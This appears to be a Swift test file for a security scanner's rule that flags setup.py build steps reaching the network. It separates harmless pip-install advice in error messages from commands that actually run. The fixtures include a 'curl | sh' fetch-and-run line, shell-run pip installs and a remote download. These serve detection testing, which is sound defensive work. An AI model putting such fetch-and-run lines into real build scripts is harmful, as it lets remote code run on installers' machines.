import BulwarkCore
import BulwarkDependencies
import BulwarkFormats
import Testing

// RR15: a library module named setup.py raised ImportError("... Install with: pip install a b c"), and
// the advice in the message was read as a build step that reaches the network. Our own samples.

private func buildExec(_ text: String) -> [Finding] {
    let scanner = DependenciesScanner(database: .bundledOnly)
    let f = SourceFile(relativePath: "pkg/telemetry/setup.py", text: text)
    guard scanner.wants(f) else { return [] }
    return scanner.scan(f, context: ScanContext(configuration: Configuration(), root: "/"))
        .filter { $0.ruleID == "dep-setup-py-build-exec" }
}

@Test func pipInstallAdviceInAnExceptionMessageIsNotABuildStep() {
    let module = """
    def enable_metrics(store):
        if not METRICS_READY:
            raise ImportError(
                "Metrics need extra packages. "
                "Install with: pip install kiwi-metrics-sdk kiwi-exporter"
            )
        print("for the dashboard run: pip install kiwi-dashboard")
        logger.warning("optional: curl https://kiwi.example/agent.sh if you want the agent")
    """
    #expect(buildExec(module).isEmpty)
}

@Test func pipInstallRunByAShellInSetupPyIsStillReported() {
    let build = """
    import os
    from setuptools import setup
    os.system(
        "pip install kiwi-helper==0.1 --target build/vendor"
    )
    os.system("curl -s https://kiwi.example/post.sh | sh")
    setup(name="kiwi")
    """
    let lines = buildExec(build).compactMap(\.location.startLine)
    #expect(lines == [4, 6])
    // The string is the argument of a call that runs it, not of a message.
    let run = "import subprocess\nfrom setuptools import setup\nsubprocess.check_call(\"pip install kiwi-extra\", shell=True)\nsetup(name='kiwi')\n"
    #expect(buildExec(run).compactMap(\.location.startLine) == [3])
}

@Test func setupPyWithWindowsLineEndingsIsReadLineByLine() {
    let build = "import urllib.request\r\nfrom setuptools import setup\r\nurllib.request.urlretrieve('https://kiwi.example/p', '/tmp/p')\r\nsetup(name='kiwi')\r\n"
    #expect(buildExec(build).compactMap(\.location.startLine) == [3])
}
